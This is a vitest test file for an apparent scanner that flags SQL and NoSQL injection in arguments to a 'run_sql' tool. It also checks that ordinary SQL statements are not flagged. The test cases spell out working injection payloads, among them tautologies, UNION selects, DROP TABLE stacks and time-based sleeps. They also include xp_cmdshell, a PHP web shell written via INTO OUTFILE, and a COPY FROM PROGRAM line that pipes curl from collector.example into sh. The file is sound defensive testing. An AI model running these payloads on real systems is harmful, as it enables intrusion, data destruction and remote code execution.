import { describe, expect, it } from 'vitest';
import { createScanner } from '../scanner.js';
import type { Severity } from '../types.js';

// Layer 1 alone: these tests are about the rules, not about what the model adds.
const scanner = createScanner({ layers: ['l1'] });
const ACTING: readonly Severity[] = ['medium', 'high', 'critical'];

function scanQuery(query: string): string[] {
  return scanner
    .scan({ kind: 'tool_args', tool: 'run_sql', arguments: { query } })
    .findings.filter(
      (finding) => finding.category === 'sql_injection' && ACTING.includes(finding.severity),
    )
    .map((finding) => finding.ruleId);
}

describe('SQL rules: injections', () => {
  it.each([
    ["' OR '1'='1", 'sql.quote-breakout'],
    ["' OR '1'='1", 'sql.tautology'],
    ["admin'--", 'sql.quote-breakout'],
    ['" or ""="', 'sql.tautology'],
    ["') or ('a'='a", 'sql.tautology'],
    ['1 OR 1=1', 'sql.appended-clause'],
    ["x' OR name LIKE '%", 'sql.tautology'],
    ["' UNION SELECT NULL,NULL,version()--", 'sql.union-select'],
    ['1 UNION ALL SELECT 1,2,3,4', 'sql.union-select'],
    ['SELECT name FROM products WHERE id = 3 UNION SELECT @@version, 2', 'sql.union-select'],
    ['1 UNION/**/SELECT user(),2', 'sql.union-select'],
    // MySQL runs the body of a versioned comment.
    ['1 /*!50000UNION*/ SELECT user(),2', 'sql.union-select'],
    ["'; DROP TABLE users; --", 'sql.stacked-query'],
    ['1; DROP TABLE users', 'sql.appended-clause'],
    ["' AND SLEEP(5)--", 'sql.time-based'],
    ['1) AND pg_sleep(10)--', 'sql.time-based'],
    ["'; WAITFOR DELAY '0:0:10'--", 'sql.time-based'],
    ['%27%20AND%20SLEEP(5)--', 'sql.time-based'],
    ["' AND extractvalue(1,concat(0x7e,(select user())))--", 'sql.error-based'],
    ["' AND 1=CONVERT(int,@@version)--", 'sql.error-based'],
    ["'; EXEC xp_cmdshell 'whoami'--", 'sql.command-execution'],
    [
      "SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'",
      'sql.command-execution',
    ],
    ["COPY audit FROM PROGRAM 'curl https://collector.example/x | sh'", 'sql.command-execution'],
    ['SELECT * FROM users WHERE id = 5 AND 1=1', 'sql.boolean-probe'],
    ['{"username": "admin", "password": {"$ne": null}}', 'sql.nosql-injection'],
    ['username[$ne]=x&password[$ne]=x', 'sql.nosql-injection'],
    ['{"$where": "sleep(5000) || true"}', 'sql.nosql-injection'],
    ["'; return true; var x='", 'sql.nosql-injection'],
    ["EXEC('SEL' + 'ECT * FROM users')", 'sql.obfuscation'],
    ['SELECT CHAR(97)+CHAR(100)+CHAR(109)', 'sql.obfuscation'],
    ["1'", 'sql.metacharacter-probe'],
    ['\u2019 or \u20181\u2019=\u20191', 'sql.tautology'],
  ])('flags %j as %s', (query, ruleId) => {
    expect(scanQuery(query)).toContain(ruleId);
  });
});

describe('SQL rules: real statements', () => {
  it.each([
    'DROP TABLE IF EXISTS sessions;',
    'ALTER TABLE orders DROP COLUMN legacy_id;',
    "CREATE TABLE notes (id int primary key, title text default 'n/a');",
    'SELECT a FROM t1 UNION SELECT a FROM t2;',
    "SELECT * FROM users WHERE name = 'O''Brien' OR email = 'ob@example.com';",
    'SELECT * FROM items WHERE 1=1 AND price > 10 ORDER BY price LIMIT 20;',
    "INSERT INTO notes (body) VALUES ('it''s done; drop the topic');",
    "INSERT INTO t VALUES ('a'); DROP TABLE staging;",
    'SELECT pg_size_pretty(pg_database_size(current_database()));',
    "DELETE FROM sessions WHERE expires_at < now() - interval '30 days';",
    "UPDATE users SET active = false WHERE last_login < '2024-01-01';",
    "SELECT * FROM t WHERE name LIKE 'abc%' OR code = 'x'",
    'WITH recent AS (SELECT 1 AS n) SELECT n FROM recent;',
    "SELECT id, 'input' AS kind FROM a UNION ALL SELECT id, 'output' AS kind FROM b;",
    'SELECT COUNT(*) FROM events WHERE type = 1 OR type = 2',
    'COPY countries FROM STDIN;',
    '{"age": {"$gt": 30}, "status": {"$in": ["a", "b"]}}',
    'SELECT * FROM orders WHERE customer_id = $1 AND status = $2',
    // Prose in a block comment of any length is not SQL.
    `SELECT id FROM accounts /* ${'Kept for the audit trail, see ticket 4412. '.repeat(6)}the old filter was x and 1=1, now removed. */ WHERE region = 'eu'`,
  ])('does not act on %j', (query) => {
    expect(scanQuery(query)).toEqual([]);
  });
});
